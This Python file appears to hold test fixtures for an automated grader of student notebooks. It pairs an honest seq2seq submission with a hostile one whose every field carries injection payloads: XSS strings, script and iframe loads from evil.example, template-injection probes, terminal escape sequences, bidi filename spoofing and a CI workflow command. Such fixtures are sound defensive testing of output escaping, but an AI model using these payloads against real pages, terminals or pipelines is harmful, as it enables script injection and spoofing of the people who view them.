"""Evidence and grades made by hand: one honest student, one who wrote an attack into everything."""

from __future__ import annotations

import io
from dataclasses import replace
from pathlib import Path

from PIL import Image, ImageDraw

from grader.model.accounts import Account, Confidence
from grader.model.assignment import Assignment, BonusPolicy, DataRules, Limits, RubricItem, Task
from grader.model.drawings import Axes, Figure, Heatmap, Line
from grader.model.evidence import Basis, CellEnd, CellRun, Evidence, Observed, Output, Reported, RunEnd
from grader.model.findings import Curve, Findings, Translation
from grader.model.grade import Cause, Grade, ItemGrade, Outcome, Status
from grader.model.submission import Cell, CellKind, Submission

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><script>alert(2)</script></svg>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=alert(1)>'>",
    "</pre></details></main><iframe src=//evil.example></iframe>",
    "</title></style><script src=//evil.example/x.js></script>",
    "\"' onmouseover=alert(1) x='",
    "{{7*7}}{% raw %}{{ config }}${7*7}#{7*7}",
    "\x1b[31mred\x1b]52;c;ZXZpbA==\x07\x1b]0;title\x1b\\\x9b2J",
    "user\u202egpj.exe\u2066 \u200bhidden",
    "[bold red]markup[/] [link=https://evil.example]x[/link]",
    "::set-output name=x::y",
    "lone \ud800 surrogate",
)
HOSTILE = "\n".join(PAYLOADS)
SECRET = "assert 3 >= 10: for the eyes of the teacher"

_TASKS = (
    ("3", "Data preparation"),
    ("4", "The model and its training"),
    ("5", "Inference"),
    ("6", "Attention"),
    ("7", "Evaluation"),
)
_ITEMS = (
    ("3.1", "Parallel data", "3", 3, False),
    ("3.2", "Tokenised", "3", 4, False),
    ("4.3", "Decoder", "4", 4, False),
    ("4.6", "Ten epochs", "4", 4, False),
    ("4.8", "Loss decreases", "4", 4, False),
    ("5.1", "Inference loop", "5", 6, False),
    ("5.3", "Five translations", "5", 6, False),
    ("6.1", "Attention", "6", 6, True),
    ("6.2", "Heatmap", "6", 4, True),
    ("7.1", "Loss curve", "7", 3, False),
)


def assignment(**changes: object) -> Assignment:
    made = Assignment(
        name="seq2seq",
        version="1",
        title="Encoder-Decoder Models using RNN and LSTM",
        tasks=tuple(Task(id=task, title=title) for task, title in _TASKS),
        items=tuple(RubricItem(id=i, title=t, task=k, points=p, bonus=b) for i, t, k, p, b in _ITEMS),
        bonus=BonusPolicy.MAKES_UP,
        limits=Limits(),
        folder=Path("checks/seq2seq"),
        data=Path("reference/seq2seq/toy.tsv"),
        data_rules=DataRules(names=("eng-fra.txt",)),
        stages=(),
        questions=(),
    )
    return replace(made, **changes)  # type: ignore[arg-type]


def outcome(
    id: str,
    points: int,
    status: Status = Status.PASSED,
    *,
    looked_for: str = "A list or file of sentence pairs.",
    found: str = "1,200 pairs in cell 4.",
    advice: str = "Read the pairs from the file.",
    cause: Cause | None = None,
    rests_on: tuple[Basis, ...] = (Basis.REPORTED,),
) -> Outcome:
    return Outcome(
        id=id,
        points=points,
        status=status,
        cause=cause,
        looked_for=looked_for,
        found=found,
        advice=advice,
        rests_on=rests_on,
        for_teacher=SECRET,
    )


def grade(*, reasons: tuple[str, ...] = (), student: str = "Alice Martin") -> Grade:
    failed, unknown = Status.FAILED, Status.UNGRADABLE
    checks = {
        "3.1": (outcome("3.1/pairs", 3),),
        "3.2": (
            outcome("3.2/source", 2, looked_for="The English side becomes ids.", found="`en_ids` holds 96 ids."),
            outcome("3.2/target", 2, looked_for="The French side becomes ids.", found="`fr_ids` holds 131 ids."),
        ),
        "4.3": (outcome("4.3/decoder", 4, rests_on=(Basis.RECOMPUTED, Basis.REPORTED)),),
        "4.6": (
            outcome("4.6/five", 2, looked_for="Train for five epochs at least.", found="`fit` in cell 5 ran 6 epochs."),
            outcome(
                "4.6/ten",
                2,
                failed,
                looked_for="Train the model for at least ten epochs.",
                found="`fit` in cell 5 ran 6 epochs.",
                advice="Call `fit` with `epochs=10` or more.",
                rests_on=(Basis.OBSERVED, Basis.REPORTED),
            ),
        ),
        "4.8": (outcome("4.8/falls", 4, found="Loss fell from 4.21 to 1.02."),),
        "5.1": (
            outcome(
                "5.1/loop",
                6,
                failed,
                looked_for="Decode one token at a time, feeding back what was predicted.",
                found="The whole target sentence entered the decoder at once, in cell 7.",
                advice="Start with the start token, call the decoder for one step, and feed its answer back in.",
            ),
        ),
        "5.3": (
            outcome(
                "5.3/five",
                6,
                unknown,
                looked_for="Show at least five sentences with their translations.",
                found="Cell 7 stopped before anything was translated.",
                advice="Mend cell 7, then print source and output side by side.",
                cause=Cause.UPSTREAM,
                rests_on=(Basis.OBSERVED,),
            ),
        ),
        "6.1": (outcome("6.1/attention", 6, found="`AdditiveAttention` between decoder and encoder."),),
        "6.2": (outcome("6.2/heatmap", 4, failed, found="No heatmap was drawn.", advice="Draw the weights."),),
        "7.1": (outcome("7.1/curve", 3, rests_on=(Basis.REPORTED, Basis.SAVED), found="Figure in cell 6."),),
    }
    items = tuple(ItemGrade(item=item, checks=checks[item.id]) for item in assignment().items)
    return Grade(
        assignment="seq2seq",
        version="1",
        student=student,
        path="/home/teacher/secret-folder/alice.ipynb",
        sha256="ab" * 32,
        items=items,
        policy=BonusPolicy.MAKES_UP,
        reasons=reasons,
    )


def png(width: int = 480, height: int = 300, colour: str = "#7799bb") -> bytes:
    picture = Image.new("RGB", (width, height), "white")
    draw = ImageDraw.Draw(picture)
    draw.rectangle((20, 20, width - 20, height - 20), outline="black")
    draw.line((20, height - 30, width // 2, height // 3, width - 20, 40), fill=colour, width=3)
    written = io.BytesIO()
    picture.save(written, "PNG")
    return written.getvalue()


IMAGES = {"a1": png(), "b2": png(420, 420, "#aa5533"), "c3": png(1200, 300, "#338855")}

FRAME = """<div><style scoped>.dataframe tbody tr th {vertical-align: top;}</style>
<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>english</th><th>french</th>
<th>english length</th><th>french length</th></tr></thead><tbody>
<tr><th>0</th><td>i like the small red house</td><td>j'aime la petite maison rouge</td><td>6</td><td>5</td></tr>
<tr><th>1</th><td>she is reading</td><td>elle lit</td><td>3</td><td>2</td></tr></tbody></table></div>"""

_SOURCES: tuple[tuple[CellKind, str], ...] = (
    (CellKind.MARKDOWN, "# English to French\n\nAn **LSTM** encoder-decoder, see [the paper](https://example.org/p)."),
    (CellKind.CODE, "import numpy as np\nfrom tensorflow import keras"),
    (CellKind.MARKDOWN, "## Data\n\n| side | words |\n|---|--:|\n| en | 96 |\n| fr | 131 |\n\n- pairs\n- padding"),
    (CellKind.CODE, "pairs = [line.split('\\t') for line in open('eng-fra.txt', encoding='utf-8')]\nframe.head()"),
    (
        CellKind.CODE,
        "history = model.fit([encoder_in, decoder_in], decoder_target, epochs=6, validation_split=0.2, verbose=2)",
    ),
    (CellKind.CODE, "plt.plot(history.history['loss'], label='train')\nplt.show()"),
    (CellKind.CODE, "for sentence in test:\n    print(sentence, translate(sentnce))"),
    (CellKind.RAW, "a raw cell"),
    (CellKind.CODE, "print('the end')"),
)


def submission(sources: tuple[tuple[CellKind, str], ...] = _SOURCES, name: str = "alice") -> Submission:
    return Submission(
        name=name,
        slug="alice",
        path="/home/teacher/secret-folder/alice.ipynb",
        notebook="alice.ipynb",
        sha256="ab" * 32,
        cells=tuple(Cell(index=at, kind=kind, source=source) for at, (kind, source) in enumerate(sources)),
        notes=("2 cells of another language were left out.",),
    )


def evidence() -> Evidence:
    trace = "Traceback (most recent call last)\n  Cell In[7], line 2\nNameError: name 'sentnce' is not defined"
    log = "\n".join(f"Epoch {at}/6\n30/30 - 2s - loss: {4 / at:.4f} - val_loss: {4.2 / at:.4f}" for at in range(1, 7))
    return Evidence(
        submission=submission(),
        observed=Observed(
            end=RunEnd.COMPLETED,
            sandbox="bubblewrap (user, network and process namespaces, seccomp)",
            seconds=83.4,
            peak_memory=1_420_000_000,
            cells=(
                CellRun(cell=1, end=CellEnd.OK, began=0.0, ended=3.2),
                CellRun(cell=3, end=CellEnd.OK, began=3.2, ended=3.4),
                CellRun(cell=4, end=CellEnd.OK, began=3.4, ended=78.0),
                CellRun(cell=5, end=CellEnd.OK, began=78.0, ended=79.0),
                CellRun(cell=6, end=CellEnd.ERROR, began=79.0, ended=79.1),
                CellRun(cell=8, end=CellEnd.NOT_RUN),
            ),
            supplies=("eng-fra.txt", "/content/drive/MyDrive/eng-fra.txt"),
            notes=("`google.colab` was replaced by a stand-in.",),
        ),
        reported=Reported(
            outputs=(
                Output(cell=3, text="  english french", html=FRAME),
                Output(cell=4, text=log, cut=1200),
                Output(cell=5, text="<Figure size 640x480 with 1 Axes>", image="a1"),
                Output(cell=6, text="name 'sentnce' is not defined", error="NameError", trace=trace),
            ),
            figures=(
                Figure(
                    cell=5,
                    title="",
                    axes=(
                        Axes(
                            title="Training",
                            x_label="epoch",
                            y_label="loss",
                            lines=(Line(label="train", x=(1, 2), y=(4, 2)), Line(label="val", x=(1, 2), y=(4, 3))),
                        ),
                    ),
                    image="a1",
                    trained=True,
                ),
                Figure(
                    cell=5,
                    title="Attention",
                    axes=(
                        Axes(
                            x_ticks=("i", "like", "tea"),
                            y_ticks=("j'aime", "le", "thé"),
                            heatmaps=(Heatmap(rows=3, columns=3),),
                        ),
                    ),
                    image="b2",
                    trained=True,
                ),
                Figure(cell=5, title="Wide", axes=(), image="c3", trained=False),
            ),
        ),
    )


def findings() -> Findings:
    return Findings(
        curves=(
            Curve(name="loss", values=(4.21, 2.8, 1.9, 1.5, 1.2, 1.02)),
            Curve(name="accuracy", values=(0.31, 0.48, 0.6, 0.68, 0.74, 0.79)),
            Curve(name="val_loss", values=(4.3, 3.1, 2.3, 2.0, 1.9, 1.95)),
            Curve(name="val_accuracy", values=(0.28, 0.44, 0.52, 0.55, 0.57, 0.56)),
        ),
        training_cells=(4,),
        translations=(
            Translation(cell=6, source="i like tea", output="j'aime le thé", confirmed=True, trained_on=False),
            Translation(cell=6, source="she is reading", output="elle lit", confirmed=False, trained_on=True),
            Translation(cell=6, source="", output="la maison", confirmed=True, trained_on=None),
        ),
        heatmap="b2",
    )


def hostile_grade() -> Grade:
    checks = tuple(
        outcome(f"x/{at}", 1, Status.FAILED, looked_for="Something.", found=f"{payload} in cell 2", advice=payload)
        for at, payload in enumerate(PAYLOADS)
    )
    item = ItemGrade(item=RubricItem(id="3.1", title=HOSTILE, task="3", points=13), checks=checks)
    made = grade(student=HOSTILE, reasons=PAYLOADS)
    return replace(made, items=(item, *made.items[1:]))


def hostile_evidence() -> Evidence:
    """Every field of the honest evidence that a student can write holds all payloads."""
    honest = evidence()
    code = [(CellKind.CODE, payload) for payload in PAYLOADS]
    prose = [(CellKind.MARKDOWN, payload) for payload in PAYLOADS]
    links = (
        "[x](javascript:alert(1)) [y](https://evil.example) ![z](https://evil.example/t.png) <https://evil.example>\n\n"
        "[r]: https://evil.example 'x'\n\n[r] &#x202e;evil &#27;[31m\n\n<a href='https://evil.example'>a</a>"
    )
    raw = [(CellKind.RAW, HOSTILE), (CellKind.MARKDOWN, links)]
    outputs = []
    for at, payload in enumerate(PAYLOADS):
        outputs += [
            Output(cell=at, text=payload, html=f"<table><tr><td colspan=9999 id=main>{payload}</td></tr></table>"),
            Output(cell=at, text=payload),
            Output(cell=at, text=payload, image="zz"),
            Output(cell=at, text=payload, error=payload, trace=payload),
            Output(cell=at, text="", html="<link rel=stylesheet href=//evil.example><style>@import '//evil'</style>"),
            Output(cell=at, text="", html="<a href='https://evil.example' ping=x>click</a><img src=//evil.example/i>"),
            Output(cell=at, text="", html="<form action=//evil.example><input autofocus onfocus=alert(1)></form>go"),
        ]
    axes = Axes(title=HOSTILE, x_label=HOSTILE, x_ticks=PAYLOADS, legend=PAYLOADS, texts=PAYLOADS)
    return Evidence(
        submission=replace(
            submission((*code, *prose, *raw), name=HOSTILE), notebook=HOSTILE, notes=PAYLOADS, slug="x", path=HOSTILE
        ),
        observed=replace(
            honest.observed,
            end=RunEnd.KERNEL_DIED,
            reason=HOSTILE,
            supplies=PAYLOADS,
            notes=PAYLOADS,
            cells=(CellRun(cell=1, end=CellEnd.ERROR, began=0, ended=1),),
        ),
        reported=Reported(
            outputs=tuple(outputs),
            figures=(
                Figure(cell=0, title=HOSTILE, axes=(axes,), image="zz"),
                Figure(cell=0, title="", axes=(replace(axes, lines=(Line(label=HOSTILE, x=(), y=()),)),), image="a1"),
                Figure(cell=0, title="", axes=(replace(axes, heatmaps=(Heatmap(rows=2, columns=2),)),), image="a1"),
            ),
            notes=PAYLOADS,
        ),
    )


def accounts() -> tuple[Account, ...]:
    return (
        Account(
            role="Training run",
            taken="model `translator`, 6 epochs",
            where=("cell 5",),
            because="Its weights changed in 6 epochs. Of 2 models that put out sequences, it was trained longest.",
            confidence=Confidence.LIKELY,
            others=("`rival` in cell 7, 2 epochs",),
        ),
        Account(
            role="Source",
            taken="1200 × 9 integer ids, `x_train`",
            where=("cell 5",),
            because="Pinned by the teacher.",
            confidence=Confidence.CERTAIN,
            pinned=True,
        ),
        Account(role="Answer 1.2", taken="“A guess”", because="By its words.", confidence=Confidence.GUESS),
        Account(role="Heatmap", because="No matrix was drawn."),
    )


def hostile_accounts() -> tuple[Account, ...]:
    return tuple(
        Account(
            role=payload,
            taken=payload,
            where=PAYLOADS,
            because=payload,
            confidence=Confidence.GUESS,
            others=PAYLOADS,
            pinned=True,
        )
        for payload in (*PAYLOADS, HOSTILE * 100)
    )


def hostile_findings() -> Findings:
    return Findings(
        curves=tuple(Curve(name=payload, values=(1.0, None, 1e308, -1e308)) for payload in PAYLOADS[:3]),
        training_cells=(0,),
        translations=tuple(
            Translation(cell=0, source=payload, output=payload, confirmed=False, trained_on=None)
            for payload in PAYLOADS
        ),
        heatmap="zz",
    )


def image(digest: str) -> bytes | None:
    """What the pipeline hands to `render`; `zz` is no picture at all."""
    return b"<svg onload=alert(1)></svg>" if digest == "zz" else IMAGES.get(digest)
